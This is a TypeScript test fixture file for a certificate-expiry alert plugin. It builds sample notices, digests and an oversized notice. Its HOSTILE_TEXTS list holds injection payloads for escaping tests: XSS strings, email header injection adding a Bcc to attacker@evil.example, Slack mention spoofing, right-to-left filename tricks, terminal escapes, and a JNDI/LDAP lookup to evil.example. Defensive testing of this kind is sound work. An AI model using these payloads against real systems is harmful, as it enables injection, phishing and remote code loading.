import { MAX_PLACES, type AffectedPlace, type AlertNotice, type Notification } from '../../src/plugin/notification.ts';

const AT = new Date('2027-01-01T00:00:00Z');

export function place(overrides: Partial<AffectedPlace> = {}): AffectedPlace {
  return {
    source: 'partners',
    location: 'api.example.com:443@10.0.0.7',
    rules: ['expiring'],
    severity: 'critical',
    summary: 'api.example.com ends in 4 days',
    labels: { owner: 'payments' },
    state: 'open',
    ...overrides,
  };
}

export function notice(overrides: Partial<AlertNotice> = {}): AlertNotice {
  return {
    id: '0123456789abcdef',
    family: 'expiry',
    cause: 'f'.repeat(64),
    state: 'open',
    severity: 'critical',
    rules: ['expiring'],
    title: 'api.example.com',
    summary: 'api.example.com ends in 4 days, 2027-01-05 12:00 UTC, at api.example.com:443@10.0.0.7',
    endsAt: new Date('2027-01-05T12:00:00Z'),
    openedAt: AT,
    facts: [
      { name: 'Fingerprint', value: 'f'.repeat(64) },
      { name: 'Serial', value: '0A' },
    ],
    places: [place(), place({ location: '/etc/ssl/api.pem', source: 'disk', labels: {} })],
    placeCount: 2,
    actions: ['Renew api.example.com, issued by CN=R11', 'Prove it: notafter check api.example.com:443'],
    runbookUrl: 'https://notafter.example/runbooks/expiring',
    ...overrides,
  };
}

export function notification(overrides: Partial<Notification> = {}): Notification {
  const alerts = overrides.alerts ?? [notice()];
  return {
    id: 'a1b2c3d4e5f60718293a4b5c6d7e8f90',
    kind: 'alert',
    reason: 'first',
    severity: 'critical',
    at: AT,
    group: '0123456789abcdef',
    alerts,
    alertCount: alerts.length,
    externalUrl: 'https://notafter.example/',
    ...overrides,
  };
}

export function digest(count: number, alertCount = count): Notification {
  const alerts = Array.from({ length: count }, (_, index) =>
    notice({ id: `id-${index}`, title: `host-${index}.example.com` }),
  );
  return notification({ kind: 'digest', group: 'digest-1', alerts, alertCount });
}

/** What attackers put into certificates to be shown by whoever reports on them. */
export const HOSTILE_TEXTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  'x\r\nBcc: attacker@evil.example',
  'x\nContent-Type: text/html\n\n<b>owned</b>',
  '=?utf-8?q?=0D=0ABcc:_attacker@evil.example?=',
  '<!channel> <https://evil.example|click> <@U024BE7LH>',
  '*bold* _italic_ `code` ~gone~',
  '\u202egnp.exe',
  'a\u0000b\u001b[31mred\u0007',
  'ends\u2028here',
  '${jndi:ldap://evil.example/x} {{7*7}}',
  '\ud800 lone',
] as const;

/** A notice with the same hostile text wherever text of others can stand. */
export function hostileNotice(text: string): AlertNotice {
  return notice({
    title: text,
    summary: text,
    cause: text,
    facts: [{ name: text, value: text }],
    places: [place({ location: text, source: text, summary: text, labels: { owner: text }, rules: [text] })],
    placeCount: 1,
    actions: [text, `See it: openssl x509 -in ${text}`],
  });
}

/** A notice that is as large as one can be. */
export function hugeNotice(text = 'A&<'.repeat(20_000)): AlertNotice {
  return notice({
    title: text,
    summary: text,
    facts: Array.from({ length: 40 }, () => ({ name: text, value: text })),
    places: Array.from({ length: MAX_PLACES }, () => place({ location: text, labels: { owner: text } })),
    placeCount: 20_000,
    actions: Array.from({ length: 30 }, () => `See it: openssl x509 -in ${text}`),
  });
}
